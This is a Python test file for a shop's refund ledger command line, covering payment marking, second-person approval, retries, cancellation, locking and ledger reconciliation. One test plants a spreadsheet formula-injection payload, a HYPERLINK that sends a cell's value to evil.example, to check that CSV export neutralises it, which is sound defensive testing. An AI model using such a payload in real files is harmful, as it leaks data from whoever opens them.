"""Refunds and their ledger on the command line."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from pathlib import Path

import pytest

from bot.cli.context import Here
from bot.domain.refunds import Refund, RefundEvent
from bot.pipeline.ports import Unit
from bot.store.lock import ProcessLock
from tests.cli.conftest import Call
from tests.granted import grant, happens

DONE = (RefundEvent.SEND, RefundEvent.SUCCEED)


@pytest.fixture
def refund(call: Call, shop: Path) -> Refund:
    """59.90 that an agent granted."""
    return Here(str(shop)).with_database(grant)


def test_a_refund_is_listed_paid_by_hand_and_told_once(call: Call, refund: Refund) -> None:
    listed = call("refunds", "list").output
    assert refund.key in listed
    assert "59.90 CNY" in listed
    paid = call("refunds", "paid", refund.key, "--reference", "W1", "--by", "小周")
    assert paid.exit_code == 0, paid.output
    assert f"{refund.key}: created → done" in paid.output
    again = call("refunds", "paid", refund.key, "--reference", "W2", "--by", "小王")
    assert again.exit_code == 1
    assert "is still done; nothing was changed" in again.output
    assert "W1" in call("refunds", "list", "--state", "done").output
    assert "There are no refunds that are created." in call("refunds", "list", "--state", "created").output


def test_above_the_limit_a_second_person_approves(call: Call, shop: Path) -> None:
    refund = Here(str(shop)).with_database(lambda unit: grant(unit, two_from=1_000))
    assert "1 of 2" in call("refunds", "list").output
    assert "nothing was changed" in call("refunds", "approve", refund.key, "--by", "小周").output
    assert "nothing was changed" in call("refunds", "paid", refund.key, "--by", "小周").output
    assert call("refunds", "approve", refund.key, "--by", "老板").exit_code == 0
    assert "2 of 2" in call("refunds", "list").output
    assert call("refunds", "paid", refund.key, "--by", "小周").exit_code == 0


def test_what_failed_is_tried_again_or_called_off_with_a_reason(
    call: Call, shop: Path, refund: Refund
) -> None:
    Here(str(shop)).with_database(lambda unit: happens(unit, refund, RefundEvent.FAIL))
    assert f"{refund.key}: failed → created" in call("refunds", "retry", refund.key).output
    assert call("refunds", "cancel", refund.key).exit_code == 2
    called_off = call("refunds", "cancel", refund.key, "--why", "paid in the shop")
    assert f"{refund.key}: created → cancelled" in called_off.output
    assert "paid in the shop" in call("ledger").output


def test_beside_the_running_shop_it_is_left_to_it(call: Call, shop: Path, refund: Refund) -> None:
    with ProcessLock(shop / "data" / "shouhou.db.lock"):
        said = call("refunds", "paid", refund.key)
    assert said.exit_code == 0
    assert "the shop that is being served does it now" in said.output
    with sqlite3.connect(shop / "data" / "shouhou.db") as database:
        assert database.execute("SELECT channel, state FROM inbox").fetchall() == [("desk", "due")]


def test_what_a_refund_is_not_open_to_is_told_before_anything_waits_for_the_shop_that_is_served(
    call: Call, shop: Path, refund: Refund
) -> None:
    with ProcessLock(shop / "data" / "shouhou.db.lock"):
        for words in (["retry", refund.key], ["cancel", refund.key, "--why", " "]):
            said = call("refunds", *words)
            assert said.exit_code, words
            assert "does it now" not in said.output
    with sqlite3.connect(shop / "data" / "shouhou.db") as database:
        assert database.execute("SELECT count(*) FROM inbox").fetchone() == (0,)


def test_a_refund_there_is_none_of_is_told(call: Call) -> None:
    assert "there is no refund 'refund:R9'" in call("refunds", "paid", "refund:R9").output
    assert "There are no refunds." in call("refunds", "list").output


def several(unit: Unit) -> None:
    happens(unit, grant(unit, "R1", "A1"), *DONE, reference="=1+1")
    happens(unit, grant(unit, "R2", "A2", 1_000), RefundEvent.FAIL)
    grant(unit, "R3", "A3", 2_000)


def test_the_ledger_tells_every_move_and_that_it_adds_up(call: Call, shop: Path) -> None:
    Here(str(shop)).with_database(several)
    said = call("ledger")
    assert said.exit_code == 0, said.output
    assert "created 20.00 · done 59.90 · failed 10.00" in said.output
    assert "CNY: 20.00 created, 59.90 done, 10.00 failed" in said.output
    assert "It adds up (refunds: 3, lines: 6): none left twice, none is above what was paid." in said.output
    one = call("ledger", "--order", "A2").output
    assert "refund:R2" in one
    assert "refund:R1" not in one
    assert "It adds up (refunds: 1, lines: 2)" in one


def test_the_ledger_as_csv_has_all_columns_and_no_formula(call: Call, shop: Path) -> None:
    Here(str(shop)).with_database(several)
    result = call("ledger", "--csv")
    found = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(found) == 6
    assert (found[-1]["to"], found[-1]["amount"], found[-1]["currency"]) == ("done", "59.90", "CNY")
    assert (found[-1]["reference"], found[-1]["total_done"]) == ("'=1+1", "59.90")
    assert {row["order"] for row in found} == {"A1", "A2", "A3"}


@pytest.mark.parametrize("start", [*"=+-@\t\r\n＝＋－＠"], ids=ascii)
def test_no_words_in_the_csv_are_a_formula(call: Call, shop: Path, start: str) -> None:
    Here(str(shop)).with_database(several)
    evil = f'{start}HYPERLINK("https://evil.example/?"&A1,"x")'
    with sqlite3.connect(shop / "data" / "shouhou.db") as database:
        database.execute("UPDATE ledger SET who = ?, reference = ?, why = ?", (evil, evil, evil))
        database.execute("UPDATE refunds SET order_number = ?", (evil,))
    table = list(csv.reader(io.StringIO(call("ledger", "--csv").stdout, newline="")))
    assert sum(cell == f"'{evil}" for row in table for cell in row) == 6 * 4
    assert not any(cell.startswith(start) for row in table for cell in row)


def test_no_other_part_of_the_program_writes_csv() -> None:
    """Whoever writes another one makes its words harmless too, and adds it here with its test."""
    sources = (Path(__file__).parents[2] / "bot").rglob("*.py")
    writers = {path.name for path in sources if re.search(r"csv\.(Dict)?[Ww]riter", path.read_text("utf-8"))}
    assert writers == {"ledger.py"}


def test_a_ledger_somebody_changed_does_not_add_up(call: Call, shop: Path) -> None:
    Here(str(shop)).with_database(several)
    with sqlite3.connect(shop / "data" / "shouhou.db") as database:
        database.execute("UPDATE refunds SET amount = 6000 WHERE key = 'refund:R1'")
    said = call("ledger")
    assert said.exit_code == 1
    assert "refund:R1: its lines are of another amount" in said.output
    assert "order A1: 60.00 CNY of the price is refunded, 59.90 CNY was paid" in said.output


def test_an_empty_ledger_adds_up(call: Call) -> None:
    assert "It adds up (refunds: 0, lines: 0)" in call("ledger").output
